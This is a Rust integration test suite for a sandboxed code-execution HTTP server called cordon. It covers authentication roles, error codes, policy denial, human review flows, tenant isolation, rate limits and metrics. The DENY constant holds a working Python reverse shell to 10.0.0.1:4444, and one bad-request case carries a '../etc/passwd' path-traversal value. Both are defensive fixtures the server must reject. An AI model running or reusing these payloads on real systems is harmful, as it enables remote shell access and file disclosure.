//! `cordon serve` over real HTTP: a real server on an ephemeral loopback
//! port, the real Docker engine and a real SQLite store in a tempdir (and
//! Postgres for the `postgres_*` tests when `CORDON_TEST_POSTGRES_URL` is set).
//! Engine-less machines print `skipped:` unless `CORDON_REQUIRE_DOCKER` is set.

#[path = "support/postgres.rs"]
mod pg_support;
#[path = "support/server.rs"]
mod srv;
mod support;

use std::time::Duration;

use cordon::server::store::Role;
use serde_json::{json, Value};
use sha2::Digest;
use srv::{get, post, request, sse_events, TestServer};

const PRINT: &str = "print(1)";
const REVIEW: &str = "import os\nos.system(\"echo approved-run\")\n";
const DENY: &str = "import socket,subprocess,os\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n";

fn py(code: &str) -> Value {
    json!({ "language": "python", "code": code })
}

/// Submits a program that sleeps 30 s (`wait: false`) and polls its status
/// every 50 ms, at most `polls` times, until it is `running`. Returns the
/// execution id and whether it got there.
async fn start_sleeper(s: &TestServer, key: &str, polls: usize) -> (String, bool) {
    let mut body = py("import time\nprint('started', flush=True)\ntime.sleep(30)\n");
    body["wait"] = json!(false);
    let r = post(s.addr, "/v1/executions", key, &body).await;
    let id = r.json()["id"].as_str().unwrap().to_string();
    for _ in 0..polls {
        let v = get(s.addr, &format!("/v1/executions/{id}"), key)
            .await
            .json();
        if v["status"] == "running" {
            return (id, true);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    (id, false)
}

async fn containers_of(id: &str) -> usize {
    let d = cordon::sandbox::docker::DockerBackend::connect()
        .await
        .expect("engine");
    d.labelled_containers()
        .await
        .expect("list")
        .iter()
        .filter(|(_, e)| e == id)
        .count()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn auth_missing_key_is_401_wrong_role_is_403_healthz_is_open() {
    let Some(s) = TestServer::start("auth").await else {
        return;
    };
    let a = s.addr;
    let r = request(a, "GET", "/healthz", None, None).await;
    assert_eq!(r.status, 200);
    for (m, p) in [
        ("GET", "/v1/policies"),
        ("POST", "/v1/executions"),
        ("GET", "/metrics"),
        ("GET", "/openapi.json"),
        ("GET", "/readyz"),
        ("GET", "/v1/audit"),
    ] {
        let r = request(a, m, p, None, None).await;
        assert_eq!(r.status, 401, "{m} {p}");
        assert_eq!(r.code(), "unauthorized");
        let r = request(a, m, p, Some("cdn_nope_0000"), None).await;
        assert_eq!(r.status, 401, "{m} {p} with an unknown key");
    }
    let auditor = s.key("t1", Role::Auditor).await;
    let submitter = s.key("t1", Role::Submitter).await;
    let r = post(a, "/v1/executions", &auditor, &py(PRINT)).await;
    assert_eq!(r.status, 403);
    assert_eq!(r.code(), "forbidden");
    let r = post(a, "/v1/analyze", &auditor, &py(PRINT)).await;
    assert_eq!(r.status, 403, "an auditor cannot submit code");
    let r = get(a, "/v1/audit", &submitter).await;
    assert_eq!(r.status, 403, "a submitter cannot read the audit log");
    let r = get(a, "/v1/reviews", &submitter).await;
    assert_eq!(r.status, 403, "a submitter cannot read the review queue");
    let r = post(
        a,
        "/v1/reviews/00000000-0000-0000-0000-000000000000/approve",
        &submitter,
        &json!({}),
    )
    .await;
    assert_eq!(r.status, 403, "a submitter cannot approve");
    // A revoked key stops working at once.
    let created = s
        .state
        .store()
        .create_key("t1", Role::Submitter, None)
        .await
        .unwrap();
    assert_eq!(get(a, "/v1/policies", &created.secret).await.status, 200);
    assert!(s.state.store().revoke_key(&created.key.id).await.unwrap());
    assert_eq!(get(a, "/v1/policies", &created.secret).await.status, 401);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_requests_get_stable_codes() {
    let Some(s) = TestServer::start_with("bad_requests", None, |c| {
        c.max_code = cordon::units::ByteSize(64 << 10);
        c.max_stdin = cordon::units::ByteSize(64 << 10);
    })
    .await
    else {
        return;
    };
    let a = s.addr;
    let k = s.key("t1", Role::Submitter).await;
    let cases: Vec<(&[u8], u16, &str)> = vec![
        (b"{\"language\":\"python\",", 400, "malformed_json"),
        (b"not json", 400, "malformed_json"),
        (
            b"{\"language\":\"python\",\"code\":\"1\",\"colour\":1}",
            400,
            "unknown_field",
        ),
        (
            b"{\"language\":\"cobol\",\"code\":\"1\"}",
            400,
            "unknown_language",
        ),
        (
            b"{\"language\":\"python\",\"code\":\"\xff\xfe\"}",
            400,
            "invalid_utf8",
        ),
        (b"{\"language\":\"python\"}", 400, "invalid_request"),
        (
            b"{\"language\":\"python\",\"code\":\"1\",\"policy\":\"../etc/passwd\"}",
            400,
            "unknown_policy",
        ),
        (
            b"{\"language\":\"python\",\"code\":\"1\",\"stdin\":7}",
            400,
            "invalid_request",
        ),
        (
            b"{\"language\":\"python\",\"code\":\"1\",\"stdin\":\"\xff\"}",
            400,
            "invalid_utf8",
        ),
        (
            b"{\"language\":\"python\",\"code\":\"1\",\"limits\":{\"memry\":\"1Mi\"}}",
            400,
            "unknown_field",
        ),
    ];
    for (body, status, code) in cases {
        let r = request(a, "POST", "/v1/executions", Some(&k), Some(body)).await;
        assert_eq!(
            r.status,
            status,
            "{}: {}",
            String::from_utf8_lossy(body),
            r.text()
        );
        assert_eq!(r.code(), code, "{}", String::from_utf8_lossy(body));
        let msg = r.json()["error"]["message"]
            .as_str()
            .unwrap_or("")
            .to_string();
        assert!(!msg.is_empty() && !msg.contains("src/"), "{msg}");
    }
    // Code over the limit, and a body far over it: 413 either way.
    let big = "#".repeat(65 << 10);
    let r = post(a, "/v1/executions", &k, &py(&big)).await;
    assert_eq!((r.status, r.code().as_str()), (413, "payload_too_large"));
    let mut body = py("print(1)");
    body["stdin"] = json!(big);
    let r = post(a, "/v1/executions", &k, &body).await;
    assert_eq!((r.status, r.code().as_str()), (413, "payload_too_large"));
    assert!(r.text().contains("stdin"), "{}", r.text());
    let huge = "x".repeat(2 << 20);
    let r = post(a, "/v1/analyze", &k, &py(&huge)).await;
    assert_eq!((r.status, r.code().as_str()), (413, "payload_too_large"));
    let r = get(a, "/v1/nothing-here", &k).await;
    assert_eq!((r.status, r.code().as_str()), (404, "not_found"));
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analyze_vets_without_running_and_allowed_code_returns_its_result() {
    let Some(s) = TestServer::start("allowed").await else {
        return;
    };
    let a = s.addr;
    let k = s.key("t1", Role::Submitter).await;
    let r = post(a, "/v1/analyze", &k, &py(DENY)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["verdict"], "deny");
    assert!(v["findings"].as_array().unwrap().len() >= 2);
    assert_eq!(v["policy"]["name"], "default");
    assert!(v["policy"]["hash"].as_str().unwrap().starts_with("sha256:"));

    let r = post(a, "/v1/executions", &k, &py(PRINT)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(v["status"], "completed");
    assert_eq!(v["result"]["stdout"], "1\n");
    assert_eq!(v["result"]["exit_code"], 0);
    assert_eq!(v["result"]["termination_reason"], "exited");
    let id = v["id"].as_str().unwrap().to_string();
    assert_eq!(containers_of(&id).await, 0);
    // The same execution, read back, and its audit record.
    let r = get(a, &format!("/v1/executions/{id}"), &k).await;
    assert_eq!(r.json()["result"]["stdout"], "1\n");
    let auditor = s.key("t1", Role::Auditor).await;
    let r = get(a, &format!("/v1/audit/{id}"), &auditor).await;
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["execution"]["termination_reason"], "exited");
    assert!(r.json().get("code").is_none(), "the code stays sealed");
    // wait=false answers 202 at once with the id; the run still completes.
    let mut body = py("import time\ntime.sleep(0.5)\nprint(2)");
    body["wait"] = json!(false);
    let r = post(a, "/v1/executions", &k, &body).await;
    assert_eq!(r.status, 202, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    let mut done = false;
    for _ in 0..100 {
        let v = get(a, &format!("/v1/executions/{id}"), &k).await.json();
        if v["status"] == "completed" {
            assert_eq!(v["result"]["stdout"], "2\n");
            done = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(done);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stdin_reaches_the_program_whole_and_is_sealed_in_the_audit_log() {
    let Some(s) = TestServer::start("stdin").await else {
        return;
    };
    let a = s.addr;
    let k = s.key("t1", Role::Submitter).await;
    let auditor = s.key("t1", Role::Auditor).await;
    // 300 KiB of multi-byte text: more than any pipe buffer, so the code and
    // the stdin cannot be told apart by luck.
    let stdin: String = (0..6000)
        .map(|i| format!("ligne {i:05} – café ✓ {}\n", "x".repeat(i % 23)))
        .collect();
    let digest = hex::encode(sha2::Sha256::digest(stdin.as_bytes()));
    let code = "import sys, hashlib\ndata = sys.stdin.buffer.read()\nprint(len(data), hashlib.sha256(data).hexdigest())\nprint(sys.stdin.read() == '')\n";
    let mut body = py(code);
    body["stdin"] = json!(stdin);
    let r = post(a, "/v1/executions", &k, &body).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let v = r.json();
    assert_eq!(
        v["result"]["stdout"],
        format!("{} {digest}\nTrue\n", stdin.len()),
        "{v}"
    );
    let id = v["id"].as_str().unwrap().to_string();
    let rec = get(a, &format!("/v1/audit/{id}"), &auditor).await.json();
    assert_eq!(rec["execution"]["stdin_size"], stdin.len(), "{rec}");
    assert_eq!(rec["execution"]["stdin_sha256"], digest.as_str());
    assert_eq!(rec["mismatches"], json!([]));
    assert!(
        rec.get("stdin").is_none(),
        "stdin is never revealed over the API"
    );
    let received = rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "received")
        .expect("received event")
        .clone();
    assert_eq!(received["payload"]["stdin_sha256"], digest.as_str());
    let started = rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "started")
        .expect("started event")
        .clone();
    assert_eq!(
        started["payload"]["spec"]["program_stdin"], true,
        "{started}"
    );

    // Without stdin, the program sees an empty one and nothing is recorded.
    let r = post(
        a,
        "/v1/executions",
        &k,
        &py("import sys\nprint(repr(sys.stdin.read()))"),
    )
    .await;
    assert_eq!(r.json()["result"]["stdout"], "''\n");
    let id = r.json()["id"].as_str().unwrap().to_string();
    let rec = get(a, &format!("/v1/audit/{id}"), &auditor).await.json();
    assert_eq!(rec["execution"]["stdin_size"], Value::Null);
    assert_eq!(rec["execution"]["stdin_sha256"], Value::Null);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_code_is_403_with_findings_and_no_container() {
    let Some(s) = TestServer::start("denied").await else {
        return;
    };
    let k = s.key("t1", Role::Submitter).await;
    let d = cordon::sandbox::docker::DockerBackend::connect()
        .await
        .unwrap();
    let before = d.labelled_containers().await.unwrap().len();
    let r = post(s.addr, "/v1/executions", &k, &py(DENY)).await;
    assert_eq!(r.status, 403, "{}", r.text());
    let v = r.json();
    assert_eq!(v["error"]["code"], "policy_denied");
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule_id"] == "PY-NET-003"),
        "{v}"
    );
    let id = v["audit_id"].as_str().unwrap();
    assert_eq!(containers_of(id).await, 0);
    assert!(d.labelled_containers().await.unwrap().len() <= before);
    let auditor = s.key("t1", Role::Auditor).await;
    let rec = get(s.addr, &format!("/v1/audit/{id}"), &auditor)
        .await
        .json();
    assert_eq!(rec["execution"]["verdict"], "deny");
    assert_eq!(rec["execution"]["termination_reason"], "denied");
    assert!(rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .all(|e| e["kind"] != "started"));
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sse_delivers_output_in_order_then_the_final_status() {
    let Some(s) = TestServer::start("sse").await else {
        return;
    };
    let k = s.key("t1", Role::Submitter).await;
    let code = "import time\nfor i in range(5):\n    print(f'line {i}', flush=True)\n    time.sleep(0.2)\n";
    let mut body = py(code);
    body["wait"] = json!(false);
    let r = post(s.addr, "/v1/executions", &k, &body).await;
    assert_eq!(r.status, 202, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    let r = get(s.addr, &format!("/v1/executions/{id}/events"), &k).await;
    assert_eq!(r.status, 200);
    assert!(r
        .header("content-type")
        .unwrap_or("")
        .starts_with("text/event-stream"));
    let events = sse_events(&r.text());
    let last = events.last().expect("events");
    assert_eq!(last.0, "status", "{events:?}");
    assert_eq!(last.1["status"], "completed");
    assert_eq!(last.1["termination_reason"], "exited");
    let stdout: String = events
        .iter()
        .filter(|(e, _)| e == "stdout")
        .map(|(_, d)| d["data"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(stdout, "line 0\nline 1\nline 2\nline 3\nline 4\n");
    let seqs: Vec<u64> = events
        .iter()
        .filter_map(|(_, d)| d["seq"].as_u64())
        .collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "{seqs:?}");
    // A client connecting after the end gets the same replay.
    let again = sse_events(
        &get(s.addr, &format!("/v1/executions/{id}/events"), &k)
            .await
            .text(),
    );
    assert_eq!(again.len(), events.len());
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cancel_kills_the_run_and_records_why() {
    let Some(s) = TestServer::start("cancel").await else {
        return;
    };
    let k = s.key("t1", Role::Submitter).await;
    // Wait for the program to run, so the kill hits a running program.
    let (id, started) = start_sleeper(&s, &k, 100).await;
    assert!(started);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let other = s.key("t2", Role::Submitter).await;
    assert_eq!(
        post(
            s.addr,
            &format!("/v1/executions/{id}/cancel"),
            &other,
            &json!({})
        )
        .await
        .status,
        404
    );
    let r = post(
        s.addr,
        &format!("/v1/executions/{id}/cancel"),
        &k,
        &json!({}),
    )
    .await;
    assert_eq!(r.status, 202, "{}", r.text());
    let events = sse_events(
        &get(s.addr, &format!("/v1/executions/{id}/events"), &k)
            .await
            .text(),
    );
    let last = &events.last().unwrap().1;
    assert_eq!(last["termination_reason"], "interrupted", "{last}");
    assert_eq!(last["status"], "interrupted");
    assert_eq!(containers_of(&id).await, 0);
    let auditor = s.key("t1", Role::Auditor).await;
    let rec = get(s.addr, &format!("/v1/audit/{id}"), &auditor)
        .await
        .json();
    assert_eq!(rec["execution"]["termination_reason"], "interrupted");
    let kinds: Vec<&str> = rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert!(
        kinds.contains(&"cancelled") && kinds.contains(&"killed"),
        "{kinds:?}"
    );
    assert_eq!(
        post(
            s.addr,
            &format!("/v1/executions/{id}/cancel"),
            &k,
            &json!({})
        )
        .await
        .status,
        409
    );
    s.stop().await;
}

async fn review_flows(s: &TestServer) {
    let a = s.addr;
    let sub = s.key("acme", Role::Submitter).await;
    let rev = s.key("acme", Role::Reviewer).await;
    let other_rev = s.key("globex", Role::Reviewer).await;
    let auditor = s.key("acme", Role::Auditor).await;

    // Held: 202 pending_review with findings; nothing ran. The program has
    // stdin, which must come back unchanged when the approved run starts.
    let code = format!("{REVIEW}import sys\nprint(sys.stdin.read().upper(), end='')\n");
    let mut body = py(&code);
    body["stdin"] = json!("held input\nline 2\n");
    let r = post(a, "/v1/executions", &sub, &body).await;
    assert_eq!(r.status, 202, "{}", r.text());
    let v = r.json();
    assert_eq!(v["status"], "pending_review");
    let held = v["id"].as_str().unwrap().to_string();
    let review_id = v["review_id"].as_str().unwrap().to_string();
    assert!(!v["findings"].as_array().unwrap().is_empty());

    let queue = get(a, "/v1/reviews", &rev).await.json();
    assert!(queue
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["id"] == review_id.as_str()));
    let queue = get(a, "/v1/reviews", &other_rev).await.json();
    assert!(
        queue.as_array().unwrap().is_empty(),
        "another tenant's reviewer sees nothing"
    );
    assert_eq!(
        post(
            a,
            &format!("/v1/reviews/{review_id}/approve"),
            &other_rev,
            &json!({})
        )
        .await
        .status,
        404
    );

    // Approve: the code runs as a new, linked execution; the reviewer is recorded.
    let r = post(
        a,
        &format!("/v1/reviews/{review_id}/approve"),
        &rev,
        &json!({"comment": "ok, echo only"}),
    )
    .await;
    assert_eq!(r.status, 202, "{}", r.text());
    let run = r.json()["execution_id"].as_str().unwrap().to_string();
    let mut result = Value::Null;
    for _ in 0..200 {
        let v = get(a, &format!("/v1/executions/{run}"), &sub).await.json();
        if v["status"] == "completed" {
            result = v;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        result["result"]["stdout"], "approved-run\nHELD INPUT\nLINE 2\n",
        "{result}"
    );
    let held_view = get(a, &format!("/v1/executions/{held}"), &sub).await.json();
    assert_eq!(held_view["status"], "approved");
    assert_eq!(held_view["approved_execution_id"], run.as_str());
    assert_eq!(
        post(
            a,
            &format!("/v1/reviews/{review_id}/approve"),
            &rev,
            &json!({})
        )
        .await
        .code(),
        "review_not_pending"
    );
    let rec = get(a, &format!("/v1/audit/{run}"), &auditor).await.json();
    let reviewed = rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "reviewed")
        .expect("reviewed event")
        .clone();
    assert_eq!(reviewed["payload"]["approves_execution_id"], held.as_str());
    assert!(reviewed["payload"]["reviewer"]
        .as_str()
        .unwrap()
        .contains("reviewer"));
    let rec = get(a, &format!("/v1/audit/{held}"), &auditor).await.json();
    assert!(rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["kind"] == "reviewed" && e["payload"]["run_execution_id"] == run.as_str()));

    // Reject: needs a comment; nothing runs.
    let r = post(a, "/v1/executions", &sub, &py(REVIEW)).await;
    let held2 = r.json()["id"].as_str().unwrap().to_string();
    let review2 = r.json()["review_id"].as_str().unwrap().to_string();
    let r = post(
        a,
        &format!("/v1/reviews/{review2}/reject"),
        &rev,
        &json!({}),
    )
    .await;
    assert_eq!((r.status, r.code().as_str()), (400, "comment_required"));
    let r = post(
        a,
        &format!("/v1/reviews/{review2}/reject"),
        &rev,
        &json!({"comment": "no shell"}),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["review"]["status"], "rejected");
    assert_eq!(
        get(a, &format!("/v1/executions/{held2}"), &sub)
            .await
            .json()["status"],
        "rejected"
    );
    let rec = get(a, &format!("/v1/audit/{held2}"), &auditor).await.json();
    assert!(!rec["events"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["kind"] == "started"));
    let verify = get(a, "/v1/audit/verify", &auditor).await.json();
    assert_eq!(verify["ok"], true, "{verify}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn review_approve_and_reject_flows() {
    let Some(s) = TestServer::start("reviews").await else {
        return;
    };
    review_flows(&s).await;
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reviews_expire() {
    let Some(s) = TestServer::start_with("reviews_expire", None, |c| {
        c.review_ttl = "1s".parse().unwrap()
    })
    .await
    else {
        return;
    };
    let sub = s.key("acme", Role::Submitter).await;
    let rev = s.key("acme", Role::Reviewer).await;
    let r = post(s.addr, "/v1/executions", &sub, &py(REVIEW)).await;
    let review = r.json()["review_id"].as_str().unwrap().to_string();
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let r = post(
        s.addr,
        &format!("/v1/reviews/{review}/approve"),
        &rev,
        &json!({}),
    )
    .await;
    assert_eq!((r.status, r.code().as_str()), (409, "review_expired"));
    let all = get(s.addr, "/v1/reviews?status=expired", &rev).await.json();
    assert_eq!(all[0]["id"], review.as_str());
    s.stop().await;
}

async fn isolation(s: &TestServer) {
    let a = s.addr;
    let sub_a = s.key("alpha", Role::Submitter).await;
    let sub_b = s.key("beta", Role::Submitter).await;
    let aud_a = s.key("alpha", Role::Auditor).await;
    let aud_b = s.key("beta", Role::Auditor).await;
    let rev_b = s.key("beta", Role::Reviewer).await;
    let global = s.key("*", Role::Auditor).await;
    let r = post(a, "/v1/executions", &sub_a, &py("print('alpha-secret')")).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    let r = post(a, "/v1/executions", &sub_a, &py(REVIEW)).await;
    let review = r.json()["review_id"].as_str().unwrap().to_string();

    // Every read endpoint, as the other tenant: 404, or a list without it.
    for (path, key) in [
        (format!("/v1/executions/{id}"), &sub_b),
        (format!("/v1/executions/{id}/events"), &sub_b),
        (format!("/v1/audit/{id}"), &aud_b),
    ] {
        let r = get(a, &path, key).await;
        assert_eq!(r.status, 404, "{path}: {}", r.text());
        assert!(!r.text().contains("alpha-secret"));
    }
    assert_eq!(
        post(
            a,
            &format!("/v1/executions/{id}/cancel"),
            &sub_b,
            &json!({})
        )
        .await
        .status,
        404
    );
    assert_eq!(
        post(
            a,
            &format!("/v1/reviews/{review}/reject"),
            &rev_b,
            &json!({"comment": "x"})
        )
        .await
        .status,
        404
    );
    let list = get(a, "/v1/audit?tenant=alpha", &aud_b).await.json();
    assert!(
        list.as_array()
            .unwrap()
            .iter()
            .all(|r| r["tenant"] == "beta"),
        "{list}"
    );
    assert!(get(a, "/v1/reviews?status=all", &rev_b)
        .await
        .json()
        .as_array()
        .unwrap()
        .is_empty());
    let export = get(a, "/v1/audit/export?format=jsonl", &aud_b).await.text();
    assert!(!export.contains(&id), "beta's export holds alpha's events");
    let export = get(a, "/v1/audit/export?format=csv", &aud_b).await.text();
    assert!(!export.contains(&id));
    // The owner and a global auditor do see it.
    assert_eq!(
        get(a, &format!("/v1/executions/{id}"), &sub_a).await.status,
        200
    );
    let list = get(a, "/v1/audit", &aud_a).await.json();
    assert!(list
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["id"] == id.as_str()));
    let export = get(a, "/v1/audit/export?format=jsonl", &aud_a).await.text();
    assert!(export.contains(&id));
    assert!(export
        .lines()
        .all(|l| serde_json::from_str::<Value>(l).is_ok()));
    let list = get(a, "/v1/audit?tenant=alpha", &global).await.json();
    assert!(list
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["id"] == id.as_str()));
    // A key of every tenant reads but cannot submit.
    let g_admin = s.key("*", Role::Admin).await;
    assert_eq!(
        post(a, "/v1/executions", &g_admin, &py(PRINT)).await.status,
        403
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tenants_are_isolated_on_every_read_endpoint() {
    let Some(s) = TestServer::start("isolation").await else {
        return;
    };
    isolation(&s).await;
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limit_answers_429_with_retry_after() {
    let Some(s) = TestServer::start_with("rate_limit", None, |c| {
        c.rate_limits = Default::default();
        c.rate_limits.tenants.insert(
            "tiny".into(),
            cordon::server::config::TenantLimits {
                concurrent: 1,
                per_hour: 2,
            },
        );
    })
    .await
    else {
        return;
    };
    let k = s.key("tiny", Role::Submitter).await;
    let mut body = py("import time\ntime.sleep(3)\n");
    body["wait"] = json!(false);
    assert_eq!(post(s.addr, "/v1/executions", &k, &body).await.status, 202);
    let r = post(s.addr, "/v1/executions", &k, &py(PRINT)).await;
    assert_eq!((r.status, r.code().as_str()), (429, "rate_limited"));
    assert_eq!(r.header("retry-after"), Some("1"));
    // Analysis alone is not rate limited as an execution.
    assert_eq!(
        post(s.addr, "/v1/analyze", &k, &py(PRINT)).await.status,
        200
    );
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_policies_readyz_and_openapi() {
    let Some(s) = TestServer::start("ops").await else {
        return;
    };
    let a = s.addr;
    let k = s.key("t1", Role::Submitter).await;
    let admin = s.key("t1", Role::Admin).await;
    assert_eq!(post(a, "/v1/executions", &k, &py(PRINT)).await.status, 200);
    assert_eq!(post(a, "/v1/executions", &k, &py(DENY)).await.status, 403);
    assert_eq!(get(a, "/metrics", &k).await.status, 403);
    let m = get(a, "/metrics", &admin).await;
    assert_eq!(m.status, 200);
    let text = m.text();
    assert!(
        text.contains("cordon_executions_total{verdict=\"allow\",reason=\"exited\"} 1"),
        "{text}"
    );
    assert!(
        text.contains("cordon_executions_total{verdict=\"deny\",reason=\"denied\"} 1"),
        "{text}"
    );
    assert!(text.contains("cordon_stage_duration_seconds_bucket{stage=\"run\",le=\"+Inf\"} 1"));
    assert!(text.contains("cordon_executions_running 0"));
    assert!(text.contains("cordon_admission_queue_depth 0"));

    let p = get(a, "/v1/policies", &k).await.json();
    assert!(p.as_array().unwrap().iter().any(|x| x["name"] == "default"));
    let d = get(a, "/v1/policies/default", &k).await.json();
    assert!(d["summary"]["hash"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));
    assert_eq!(get(a, "/v1/policies/nope", &k).await.status, 404);

    // The self-test is not run in-process: not ready, and it says why.
    let r = get(a, "/readyz", &k).await;
    assert_eq!(r.status, 503);
    let checks = r.json()["checks"].clone();
    assert!(checks
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c["name"] == "engine" && c["ok"] == true));
    assert!(checks
        .as_array()
        .unwrap()
        .iter()
        .any(|c| c["name"] == "isolation_self_test" && c["ok"] == false));

    // OpenAPI: version 3, every served route documented, and every documented route served.
    let doc = get(a, "/openapi.json", &k).await.json();
    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
    let routes = cordon::server::api::documented_routes();
    assert_eq!(routes.len(), 18);
    for (m, p) in &routes {
        assert!(
            doc["paths"][p][m.to_ascii_lowercase()].is_object(),
            "{m} {p} not in /openapi.json"
        );
        let concrete = p
            .replace("{id}", "00000000-0000-0000-0000-000000000000")
            .replace("{name}", "default");
        let r = request(a, m, &concrete, Some(&admin), Some(b"{}")).await;
        assert!(
            r.status != 405
                && !(r.status == 404
                    && r.code() == "not_found"
                    && r.json()["error"]["message"] == "route not found"),
            "{m} {p}: {}",
            r.status
        );
    }
    assert_valid_openapi(&doc);
    s.stop().await;
}

/// Structural OpenAPI 3 checks: required fields, operations with responses,
/// and every `$ref` resolving inside the document.
fn assert_valid_openapi(doc: &Value) {
    assert!(doc["info"]["title"].is_string() && doc["info"]["version"].is_string());
    for (path, item) in doc["paths"].as_object().unwrap() {
        assert!(path.starts_with('/'));
        for (method, op) in item.as_object().unwrap() {
            assert!(["get", "post", "put", "delete", "patch"].contains(&method.as_str()));
            assert!(
                op["responses"].as_object().is_some_and(|r| !r.is_empty()),
                "{method} {path}"
            );
        }
    }
    fn refs(v: &Value, out: &mut Vec<String>) {
        match v {
            Value::Object(o) => {
                for (k, x) in o {
                    if k == "$ref" {
                        out.push(x.as_str().unwrap_or("").to_string());
                    }
                    refs(x, out);
                }
            }
            Value::Array(a) => a.iter().for_each(|x| refs(x, out)),
            _ => {}
        }
    }
    let mut all = Vec::new();
    refs(doc, &mut all);
    for r in all {
        let ptr = r.strip_prefix('#').expect("local ref");
        assert!(doc.pointer(ptr).is_some(), "dangling $ref {r}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgres_review_flows_and_isolation() {
    let Some(base) = pg_support::base_url("postgres_review_flows_and_isolation") else {
        return;
    };
    let url = pg_support::fresh_schema_url(&base, "server").await;
    let Some(s) = TestServer::start_with("postgres_reviews", Some(url), |_| {}).await else {
        return;
    };
    review_flows(&s).await;
    isolation(&s).await;
    s.stop().await;
}

/// Host admission full: with room for one sandbox and no queue, a second
/// execution is answered 503 `host_overloaded` with `Retry-After`, starts no
/// container, and is still audited (with why it did not run). Once the first
/// ends, the next one runs.
#[tokio::test(flavor = "multi_thread")]
async fn full_host_answers_503_with_retry_after_and_audits_the_refusal() {
    let Some(s) = TestServer::start_with("admission", None, |cfg| {
        cfg.admission.max_concurrent = Some(1);
        cfg.admission.queue = Some(0);
    })
    .await
    else {
        return;
    };
    let k = s.key("t1", Role::Submitter).await;
    let (first_id, running) = start_sleeper(&s, &k, 300).await;
    assert!(running, "the first execution never ran");

    let r = post(s.addr, "/v1/executions", &k, &py("print('second')")).await;
    assert_eq!(r.status, 503, "{}", r.text());
    assert_eq!(r.code(), "host_overloaded", "{}", r.text());
    let retry: u64 = r
        .header("retry-after")
        .expect("Retry-After header")
        .parse()
        .expect("Retry-After in seconds");
    assert!(retry >= 1);

    // The refusal is on record, and nothing ran for it.
    let auditor = s.key("t1", Role::Auditor).await;
    let list = get(s.addr, "/v1/audit?limit=10", &auditor).await.json();
    let rows = list.as_array().cloned().unwrap_or_default();
    let refused: Vec<&Value> = rows
        .iter()
        .filter(|e| e["id"] != first_id.as_str())
        .collect();
    assert_eq!(refused.len(), 1, "{list}");
    let refused_id = refused[0]["id"].as_str().unwrap().to_string();
    assert_eq!(containers_of(&refused_id).await, 0);
    let rec = get(s.addr, &format!("/v1/audit/{refused_id}"), &auditor)
        .await
        .json();
    assert!(
        rec["execution"]["finished_at"].is_string(),
        "the refused execution is closed in the log: {rec}"
    );
    assert!(
        rec.to_string().contains("overloaded"),
        "the record says why it did not run: {rec}"
    );

    // Free the slot; the next execution runs.
    let r = post(
        s.addr,
        &format!("/v1/executions/{first_id}/cancel"),
        &k,
        &json!({}),
    )
    .await;
    assert_eq!(r.status, 202, "{}", r.text());
    let mut ran = false;
    for _ in 0..40 {
        let r = post(s.addr, "/v1/executions", &k, &py("print('third')")).await;
        if r.status == 200 {
            assert_eq!(r.json()["result"]["stdout"], "third\n", "{}", r.text());
            ran = true;
            break;
        }
        assert_eq!(r.status, 503, "{}", r.text());
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    assert!(ran, "the host never admitted another execution");
    s.stop().await;
}
